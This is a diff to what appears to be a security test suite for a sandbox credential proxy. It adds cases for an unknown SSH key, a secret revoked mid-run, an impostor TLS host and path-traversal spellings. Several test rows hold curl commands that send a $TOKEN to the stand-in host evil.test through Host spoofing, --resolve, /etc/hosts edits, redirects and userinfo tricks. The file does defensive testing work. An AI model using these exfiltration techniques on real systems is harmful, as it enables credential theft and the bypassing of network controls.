@@ -2,9 +2,9 @@
 
 import authority
 from evasions import Evasion, get, raw
-from flows import NODE, SERVED, SSH, http, https
+from flows import NODE, SERVED, SSH, http, https, wait
 from names import EVIL, GOOD_TOO
-from sandbox import Sandbox, call
+from sandbox import HOME, Sandbox, call
 from table import CURL, INSIDE, Row, open_to_all
 
 PLACEHOLDER = "sk_placeholder_0123456789"
@@ -118,6 +118,8 @@ def logins(secrets):
     yield Row("git over SSH without a key that fits", None, git)
     yield Row("git over SSH with a key that the sandbox does not have", use(proxy(known), protocol="ssh"), git, says="refs/heads/main", saw="sshd: .*Accepted publickey for root")
     yield Row("ssh with a key that the sandbox does not have", use(proxy(known), protocol="ssh"), f"echo input | {SSH} -p 2222 someone@good.test 'cat; echo $((6 * 7)); exit 0'", says="input 42|input\\s42", saw="sshd: .*Accepted publickey for root")
+    other = f'ssh-keygen -q -t ed25519 -N "" -f /tmp/other && {SSH.replace(f"{HOME}/inside", "/tmp/other")} -p 2222 someone@good.test true'
+    yield Row("ssh with a key that the policy does not know", use(proxy(known), protocol="ssh"), other, unseen="Accepted publickey")
     forged = f"[good.test]:2222 {secrets.inside_key}"
     yield Row("git over SSH to a server that is not known", use(proxy(forged), protocol="ssh"), git, unseen="Accepted publickey")
 
@@ -134,6 +136,17 @@ def sources(secrets):
             call("PUT", "/api/v1/credential-sources/token", {"name": "token", "resolverKind": "static_headers", "spec": {"staticHeaders": {"values": {"token": secrets.canary}}}})
 
     yield Row("a rotation reaches a running sandbox", use(header(), protocol="http"), http(), says=SERVED, after=rotated)
+
+    def taken_back(box):
+        held = box.start(f"{INSIDE} paced good.test", {"TOKEN": "paced"})["id"]
+        wait(box, held, "answer 2")
+        box.set_network(open_to_all())
+        mark = secrets.world.mark()
+        again, said = box.run(http("after"))
+        assert again == 0, said
+        assert not any(secrets.canary in line for line in secrets.world.since(mark)), "a secret was put into a request that no rule is about any more"
+
+    yield Row("a secret that is taken back", use(header(), protocol="http"), http(), says=SERVED, after=taken_back)
 
     def bound(_box):
         refused = call("DELETE", "/api/v1/credential-sources/token", expect=(409,))
@@ -172,6 +185,12 @@ def thefts(secrets):
     yield theft("Host at another address", plain, f"{CURL} -H 'Host: good.test' http://evil.test/$TOKEN")
     yield theft("server name at another address", tls, f"{CURL} -k --resolve good.test:443:{EVIL} https://good.test/$TOKEN")
     yield theft("the address of another in one's own table of hosts", tls, f"echo {EVIL} good.test >>/etc/hosts; {CURL} -k https://good.test/$TOKEN http://good.test/$TOKEN")
+    imposed = use(header(), "impostor.test", tlsMode=TERMINATE)
+    yield theft("a server without a certificate for the name", imposed, f"{CURL} -k https://impostor.test/$TOKEN", f"^good: .*{canary}")
+
+    led_out = use(header(), protocol="http", httpMatch={"pathPrefixes": ["/a"]})
+    for spelling in ["../b", "%2e%2e/b", "..%2fb", ";x/../../b"]:
+        yield theft(f"a path that leads out, {spelling}", led_out, f"{CURL} --path-as-is 'http://good.test/a/{spelling}'", f"^good: GET /a/.*{canary}")
     yield theft("a redirect", plain, f"{CURL} -L http://good.test/to/evil.test/$TOKEN")
     yield theft("a redirect of HTTPS", tls, f"{CURL} -k -L https://good.test/to/evil.test/$TOKEN")
     yield theft("userinfo", plain, f"{CURL} http://good.test@evil.test/$TOKEN")
